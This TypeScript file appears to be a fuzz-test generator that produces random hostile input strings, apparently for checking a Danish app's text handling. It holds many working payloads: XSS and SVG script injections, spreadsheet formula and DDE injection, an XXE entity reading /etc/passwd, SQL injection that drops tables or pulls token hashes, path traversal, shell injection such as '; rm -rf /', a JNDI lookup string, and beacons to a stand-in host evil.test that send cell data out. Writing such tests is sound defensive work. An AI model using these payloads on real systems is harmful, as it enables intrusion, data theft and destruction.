import type { Random } from '../kit/random.ts';

/** A way strings do harm somewhere, and one string of that kind. */
type Family = (random: Random) => string;

const words = [
  'Mød os, hvor vi er',
  'en bænk ved havnen',
  'sig hvornår',
  'æblegrød',
  'Ærø',
  'nøglen',
  'tirsdag',
  'x',
  '1',
  '',
] as const;
const word = (random: Random): string => random.pick(words);

/** What would be noticed if it ran: the trap of the page, a dialog, a request to a stranger. */
const deeds = [
  'trap()',
  'window.trap()',
  'alert(1)',
  'confirm`1`',
  "fetch('//evil.test/a')",
  "import('//evil.test/a.js')",
  "new Image().src='http://evil.test/i'",
  'top.trap()',
  "self['tr'+'ap']()",
  "location='//evil.test'",
  "eval('trap()')",
] as const;
const deed = (random: Random): string => random.pick(deeds);

const casing = (random: Random, text: string): string =>
  random.below(3) > 0 ? text : [...text].map((sign) => (random.below(2) ? sign.toUpperCase() : sign)).join('');
const gap = (random: Random): string => random.pick([' ', ' ', '/', '\n', '\t', '\f', '  ']);
const quoted = (random: Random, text: string): string => {
  const mark = random.pick(['"', "'", '', '`']);
  return `${mark}${text}${mark}`;
};

const tags = [
  'img',
  'svg',
  'body',
  'iframe',
  'video',
  'audio',
  'details',
  'input',
  'form',
  'math',
  'object',
  'embed',
  'marquee',
  'a',
  'button',
  'select',
  'textarea',
  'style',
  'link',
  'meta',
  'base',
  'template',
  'noscript',
  'title',
  'xss-a',
] as const;
const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus autofocus',
  'ontoggle open',
  'onmouseover',
  'onanimationstart',
  'onbegin',
  'onpageshow',
  'onpointerenter',
  'onbeforeinput',
  'formaction=javascript:trap() onformdata',
] as const;

const html: Family = (random) => {
  const tag = casing(random, random.pick(tags));
  const handler = `${casing(random, random.pick(events))}=${quoted(random, deed(random))}`;
  const source = random.pick(['', 'src=x', 'src=//evil.test/p', 'href=javascript:trap()', 'data=//evil.test/o']);
  const end = random.pick(['>', '/>', '', `>${word(random)}</${tag}>`, '//']);
  return `${random.pick(['', '">', "'>", '-->', '</textarea>', '</title>', '</script>', word(random)])}<${tag}${gap(random)}${source}${gap(random)}${handler}${end}`;
};
const script: Family = (random) => {
  const open = random.pick([
    '<script>',
    '<script/x>',
    '<SCRIPT\n>',
    '<script type=module>',
    '<<script>',
    '<script src=//evil.test/s.js>',
  ]);
  return `${random.pick(['', word(random), '</script>', '<!--', ']]>'])}${open}${deed(random)}${random.pick(['</script>', '</script >', '<!--', '//</script'])}`;
};
const svg: Family = (random) =>
  random.pick([
    `<svg><script>${deed(random)}</script></svg>`,
    `<svg><a xlink:href="javascript:${deed(random)}"><text y=9>${word(random)}</text></a>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${deed(random)}>#x"/>`,
    `<svg><animate attributeName=href values=javascript:${deed(random)} /><a><text>x`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${deed(random)}>">`,
    `<svg><foreignObject><iframe srcdoc="<script>${deed(random)}</script>"></foreignObject>`,
  ]);
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'data:text/html,',
  'data:text/html;base64,',
  'vbscript:',
  'blob:',
  'file:///etc/',
  'http://evil.test/',
  '//evil.test/',
  'https://evil.test@raadhus.test/',
  'mailto:a@evil.test?bcc=',
  'tel:',
  'ws://evil.test/',
] as const;
const address: Family = (random) =>
  `${random.pick(['', word(random), '<', '"'])}${random.pick(schemes)}${deed(random)}${random.pick(['', '>', ' ', '#', '?a=1&b=2'])}`;
const markdown: Family = (random) => {
  const what = word(random);
  const where = `${random.pick(schemes)}${random.pick(['x', 'trap()'])}`;
  return random.pick([
    `[${what}](${where})`,
    `![${what}](${where} "t")`,
    `[${what}][1]\n\n[1]: ${where}`,
    `<${where}>`,
    `# ${what}`,
    `${what}\n===`,
    `${what}\n---`,
    `> ${what}`,
    `\`\`\`html\n<script>${deed(random)}</script>`,
    `    <b>${what}</b>`,
    `| a | b |\n|---|---|\n| ${what} | 1 |`,
    `- [ ] ${what}`,
    `1. ${what}`,
    `10) ${what}`,
    `**${what}** __${what}__ ~~${what}~~`,
    `[^1]: ${what}`,
    `<div onclick=${deed(random)}>\n${what}`,
    `***`,
    `\\${what}\\`,
    `&lt;script&gt;${what}`,
    `$\\href{${where}}{${what}}$`,
    `[[${what}]]`,
    `@${what} #1`,
    `+ ${what}`,
    `:::${what}`,
    `${what}  \n${what}`,
  ]);
};
const formula: Family = (random) => {
  const what = random.pick([
    '1+1',
    'SUM(A1:A9)',
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.test/?"&A1,"klik")',
    'IMPORTXML("http://evil.test","//a")',
    "WEBSERVICE('//evil.test')",
    'DDE("cmd";"/C calc";"x")',
    '2+5+cmd|x!A0',
    'A1',
    '-1',
  ]);
  const start = random.pick([
    '=',
    '+',
    '-',
    '@',
    '＝',
    '＋',
    '－',
    '＠',
    '\t=',
    '\r=',
    '\n=',
    ' =',
    '"=',
    "'=",
    '";=',
    '=\n',
    "''=",
    '|=',
    ',=',
    ';=',
    '%0A=',
    '\u00a0=',
    '\u200b=',
  ]);
  return `${random.below(4) ? '' : word(random)}${start}${what}${random.pick(['', '"', '";"=1', "'", '\r\n=2'])}`;
};
const wordFile: Family = (random) =>
  random.pick([
    ']]>',
    '<![CDATA[',
    '<?xml version="1.0"?>',
    `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;`,
    '&#0;&#x1F;',
    '&#xFFFE;&lt;',
    '&amp;amp;',
    '</w:t></w:r></w:p><w:p><w:r><w:t>',
    `<w:fldSimple w:instr="HYPERLINK http://evil.test"/>`,
    `{ INCLUDEPICTURE "http://evil.test/i.png" \\d }`,
    `{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }`,
    '</a:t><w:altChunk r:id="rId1"/>',
    `<w:hyperlink r:id="rId9">${word(random)}`,
    '<!--',
    '--><!--',
    '<?php echo 1 ?>',
    '&nbsp;&hearts;&bogus;',
    '&',
    '<',
    '>',
    `<${word(random)}`,
    '\u00a0\u2003\u3000',
    'xml:space="preserve"',
    '%n%x',
  ]) + word(random);
const pdf: Family = (random) =>
  `${word(random)}${random.pick([') Tj ET', '(', ')', '\\)', '\\', '\\\\(', '/JS (app.alert(1))', '<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>', 'endstream endobj', 'stream\nq 1 0 0 1 0 0 cm', '%%EOF', '1 0 obj', 'xref\n0 1', '/URI (http://evil.test)', '\\050\\051', '<FEFF0041>', '<< /Launch >>', 'trailer', '[(a)-200(b)] TJ', 'BT /F1 24 Tf'])}${word(random)}`;
const invisible = [
  '\u202e',
  '\u202d',
  '\u2066',
  '\u2067',
  '\u2069',
  '\u200b',
  '\u200c',
  '\u200d',
  '\u200e',
  '\u200f',
  '\ufeff',
  '\u00ad',
  '\u2060',
  '\ufe0f',
  '\u{e0041}',
  '\u{e007f}',
  '\u034f',
  '\u061c',
  '\u180e',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u00a0',
  '\u3000',
  '\u2800',
  '\u115f',
  '\u3164',
] as const;
const bidi: Family = (random) =>
  Array.from({ length: 1 + random.below(6) }, () => `${random.pick(invisible)}${word(random)}`).join('') +
  random.pick(['', 'fdp.exe', 'טקסט', 'نص', '<b>']);
const control: Family = (random) =>
  Array.from(
    { length: 1 + random.below(8) },
    () => `${String.fromCharCode(random.pick([random.below(32), 127 + random.below(33)]))}${random.pick(words)}`,
  ).join('') + 'æ';
const template: Family = (random) =>
  random.pick([
    '${trap()}',
    '{{constructor.constructor("trap()")()}}',
    '{{7*7}}',
    '<%= trap() %>',
    '#{7*7}',
    '${jndi:ldap://evil.test/a}',
    '%s%s%n',
    '{0}',
    '{name}',
    '$&',
    '$1',
    '$`',
    "$'",
    '$$',
    '@{trap()}',
    '[[${7*7}]]',
    '{% debug %}',
    '*{T(java.lang.Runtime)}',
    '`${trap()}`',
    '\\u003cscript\\u003etrap()',
    '\\x3cscript\\x3e',
    '%3Cscript%3Etrap()%3C/script%3E',
    '{count, plural, other {#}}',
    '<0>x</0>',
    '$t(common:dismiss)',
    '{{- x}}',
  ]) + word(random);
const sql: Family = (random) =>
  `${word(random)}${random.pick(["' OR 1=1 --", "'; DROP TABLE events; --", '" UNION SELECT * FROM devices --', "\\'; --", "') ; delete from grants; --", "' || (select token_hash from devices) || '", '%', '_', "'", '""', '/* */', "x'41'", '?1', ':name', '$1', 'NULL', 'null', 'undefined', 'NaN', '1e309', '-0', '0x1F', 'true'])}`;
const pathName: Family = (random) =>
  random.pick([
    '../../../../etc/passwd',
    '..\\..\\boot.ini',
    '%2e%2e%2f',
    'CON',
    'NUL.txt',
    'aux',
    'C:\\Windows\\win.ini',
    '\\\\evil.test\\share',
    'file:///etc/passwd',
    '/dev/random',
    '.',
    '..',
    '~/.ssh/id_rsa',
    '; rm -rf /',
    '| cat /etc/passwd',
    '$(reboot)',
    '`reboot`',
    '&& calc',
    'a\0.docx',
    'a"b.docx',
    'x.docx\r\nSet-Cookie: a=b',
    '*?:<>|',
    '-rf',
    '--help',
    '@file',
  ]) + random.pick(['', word(random)]);
const json: Family = (random) =>
  random.pick([
    '{"__proto__":{"role":"administrator"}}',
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'valueOf',
    '__defineGetter__',
    'constructor.prototype.x',
    '"},{"text":"x',
    '\\"',
    '\\',
    '\\u0000',
    '[',
    '{',
    '{"$ne":null}',
    '","role":"facilitator',
    '"]}',
    '/*',
    '</script><script>',
    '\u2028',
    '42["command",{}]',
    '0{"sid":"x"}',
    '451-["a",{"_placeholder":true,"num":0}]',
    '{"a":'.repeat(40),
  ]) + random.pick(['', word(random)]);
const ansi: Family = (random) =>
  `${word(random)}${random.pick(['\u001b[31m', '\u001b[2J', '\u001b]8;;http://evil.test\u0007', '\u009b31m', '\u001b[0m', '\u0007', '\b\b\b', '\r', '\u001b]0;titel\u0007', '\u001b[6n', '\u0018', '\u001bPq', '\r\nSet-Cookie: x=1', '\n\n\n\n', '\v\f'])}${word(random)}`;
const long: Family = (random) => {
  const piece = random.pick([
    'a',
    'W',
    'æ',
    '漢',
    '👩‍👩‍👧‍👦',
    '🇩🇰',
    'e\u0301',
    'ﷺ',
    'i\u0317\u0316\u0320',
    '\u0e49\u0e49',
    '𓀀',
    'Speciallægepraksisplanlægnings',
    '—',
    '.',
    '()',
    '<',
    '&',
    '"',
    'a-',
    'l/',
    '٣',
  ]);
  return [...piece.repeat(280)].slice(0, random.pick([280, 279, 281, 120, 60, 61])).join('');
};
const broken: Family = (random) =>
  `${word(random)}${random.pick(['\ud800', '\udc00', '\udfff\ud800', 'A\u030a', 'o\u0308', 'ﬁ', 'Ａ', 'Ⅳ', 'а', '\ufffd', '\uffff', '\ufffe', '\u{1fffe}', '\u{10ffff}', '\ud83d', '\u0000', 'ß', 'İ', 'ı', 'ǆ'])}${word(random)}`;
const single: Readonly<Record<string, Family>> = {
  html,
  script,
  svg,
  address,
  markdown,
  formula,
  word: wordFile,
  pdf,
  bidi,
  control,
  template,
  sql,
  pathName,
  json,
  ansi,
  long,
  broken,
};

const either: Family = (random) => (Object.values(single)[random.below(Object.keys(single).length)] ?? html)(random);
const both: Family = (random) => `${either(random)}${random.pick(['', ' ', '\n'])}${either(random)}`;

/** The kinds of strings by their names, for the figures. */
export const families: Readonly<Record<string, Family>> = { ...single, both };

/** What once broke something: it comes first, at every size. */
const onceBroke = [
  // Marks that hang on one letter, drawn side by side: no line can be broken among them, and the phone's page grew as wide as they are.
  '\u0e49'.repeat(280),
];

/** As many strings, every family in turn. Longer ones are cut to what a statement may have, but for some, which must be refused. */
export const injectionStrings = (random: Random, count: number): readonly string[] => {
  const all = Object.values(families);
  return Array.from({ length: count }, (_, index) => {
    const made = onceBroke[index] ?? (all[index % all.length] ?? html)(random);
    return random.below(50) === 0 ? made.padEnd(300, '!') : [...made].slice(0, 280).join('');
  });
};
